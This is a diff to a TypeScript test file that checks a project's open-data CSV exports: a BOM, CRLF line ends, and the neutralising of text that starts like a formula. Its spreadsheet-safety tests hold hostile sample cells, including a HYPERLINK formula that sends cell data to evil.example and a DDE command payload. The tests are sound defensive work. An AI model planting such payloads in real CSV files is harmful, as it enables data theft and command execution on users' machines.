@@ -11,7 +11,8 @@ import {
   isChecksummed,
   sha256Hex,
 } from "../../../src/output/open-data/checksums.ts";
-import { writeCsvTable } from "../../../src/output/open-data/csv-table.ts";
+import { neutraliseFormula, writeCsvTable } from "../../../src/output/open-data/csv-table.ts";
+import { parse } from "csv-parse/sync";
 import { downloadJsonSchema, type JsonSchema } from "../../../src/output/open-data/json-schema.ts";
 import {
   buildOpenDataFiles,
@@ -89,7 +90,7 @@ describe.each(SOURCES)("record downloads of %s", (_name, root) => {
   });
 
   it.each(RECORD_DOWNLOAD_KINDS)(
-    "%s.csv has the contract's columns in order and reads back as exactly the same records",
+    "%s.csv has the contract's columns in order and reads back as the same records (formula-like text with its ')",
     (kind) => {
       const records = recordsOf(project, kind);
       expect(records.length).toBeGreaterThan(0);
@@ -97,18 +98,29 @@ describe.each(SOURCES)("record downloads of %s", (_name, root) => {
       const back = readBack(kind, csv);
       expect(back.problems).toEqual([]);
       expect(parseCsv(csv, "x.csv").header).toEqual(Object.keys(RECORD_DOWNLOADS[kind].spec.shape));
-      expect(back.records.map((record) => record.data)).toStrictEqual(sortById(records));
+      // The one change on the way: text that starts like a formula comes back with the ' the download adds.
+      const neutralised = sortById(records).map((record) =>
+        Object.fromEntries(
+          Object.entries(record).map(([name, value]) => [
+            name,
+            typeof value === "string" ? neutraliseFormula(value) : (value as unknown),
+          ]),
+        ),
+      );
+      expect(back.records.map((record) => record.data)).toStrictEqual(neutralised);
     },
   );
 
   it.each(RECORD_DOWNLOAD_KINDS)(
-    "%s.csv is UTF-8 without BOM, comma-delimited, LF only, sorted by id, count always filled",
+    "%s.csv is UTF-8 with a BOM, comma-delimited, CRLF line ends, sorted by id, count always filled",
     (kind) => {
       const records = recordsOf(project, kind);
       const csv = recordsCsv(RECORD_DOWNLOADS[kind].spec, records);
-      expect(csv.charCodeAt(0)).not.toBe(0xfeff);
-      expect(csv).not.toContain("\r");
-      expect(csv.endsWith("\n")).toBe(true);
+      const bytes = Buffer.from(csv, "utf8");
+      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+      // Every line break between records is CRLF (a bare LF is only allowed inside a quoted cell).
+      expect(csv.endsWith("\r\n")).toBe(true);
+      expect(csv.split("\r\n").length - 1).toBeGreaterThan(records.length);
       const table = parseCsv(csv, "x.csv");
       expect(table.delimiter).toBe(",");
       const ids = table.rows.map((row) => row.cells[0]);
@@ -191,11 +203,89 @@ describe("contract cells", () => {
         [" padded", "plain"],
       ],
     });
-    expect(csv).toBe('a,b\n"x,y","say ""hi"""\n"two\nlines",\n" padded",plain\n');
+    expect(csv).toBe('\uFEFFa,b\r\n"x,y","say ""hi"""\r\n"two\nlines",\r\n" padded",plain\r\n');
     expect(parseCsv(csv, "x.csv").rows.map((row) => row.cells)).toEqual([
       ["x,y", 'say "hi"'],
       ["two\nlines", ""],
       [" padded", "plain"],
+    ]);
+  });
+});
+
+describe("downloads that are safe to open in a spreadsheet", () => {
+  // Cells as a hostile contributor would write them in the ledger; the reader keeps them as text.
+  const HOSTILE = [
+    ["authority", '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
+    ["legal_basis", "+cmd|' /C calc'!A0"],
+    ["notes", "-2+3"],
+  ] as const;
+  const header =
+    "id,received,country,authority,authority_type,route,legal_process,legal_basis,data_requested,accounts,count,outcome,data_disclosed,rejection_reason,contested,gag_order,user_notified,responded,related,notes";
+  const row = (id: string, cells: Record<string, string>): string =>
+    header
+      .split(",")
+      .map(
+        (column) =>
+          cells[column] ??
+          {
+            id,
+            received: "2024-03",
+            country: "BE",
+            authority_type: "police",
+            route: "domestic",
+            legal_process: "subpoena",
+            data_requested: "subscriber",
+            accounts: "1",
+            count: "2",
+            outcome: "rejected",
+            rejection_reason: "other",
+            contested: "no",
+            gag_order: "no",
+            user_notified: "no",
+          }[column] ??
+          "",
+      )
+      .map((cell) => `"${cell.replace(/"/g, '""')}"`)
+      .join(",");
+
+  it("prefixes text cells that start like a formula with ', leaves numbers and other text alone, keeps JSON exact", () => {
+    const cells = Object.fromEntries(HOSTILE);
+    const records = parseRecords<Request>(
+      asSpec(requestSpec),
+      `${header}\r\n${row("req-1", cells)}\r\n${row("req-2", { authority: "Parquet général de Liège", notes: "@SUM(1+1)" })}\r\n`,
+    );
+    const csv = recordsCsv(requestSpec, records);
+    const table = parseCsv(csv, "requests.csv");
+    const cellOf = (index: number, column: string): string | undefined =>
+      table.rows[index]?.cells[table.header.indexOf(column)];
+    for (const [column, text] of HOSTILE) expect(cellOf(0, column)).toBe(`'${text}`);
+    expect(cellOf(0, "count")).toBe("2");
+    expect(cellOf(0, "received")).toBe("2024-03");
+    expect(cellOf(1, "authority")).toBe("Parquet général de Liège");
+    expect(cellOf(1, "notes")).toBe("'@SUM(1+1)");
+    // The accents are UTF-8 bytes after a BOM, as Excel needs them.
+    expect(Buffer.from(csv, "utf8").includes(Buffer.from("Parquet g\u00e9n\u00e9ral de Li\u00e8ge", "utf8"))).toBe(
+      true,
+    );
+    const json = JSON.parse(recordsJson(requestSpec, records)) as Record<string, unknown>[];
+    for (const [column, text] of HOSTILE) expect(json[0]?.[column]).toBe(text);
+  });
+
+  it.each([
+    ["=1+1", "'=1+1"],
+    ["+1", "'+1"],
+    ["-1", "'-1"],
+    ["@x", "'@x"],
+    ["\tx", "'\tx"],
+    ["\rx", "'\rx"],
+    ["x=1", "x=1"],
+    ["", ""],
+  ])("writes the text cell %j as %j", (text, written) => {
+    const csv = writeCsvTable({ columns: ["t", "n"], rows: [[text, -1]] });
+    // Read with csv-parse itself: the project's reader turns a lone carriage return into a line feed.
+    expect(parse(csv, { bom: true })).toEqual([
+      ["t", "n"],
+      [written, "-1"],
     ]);
   });
 });
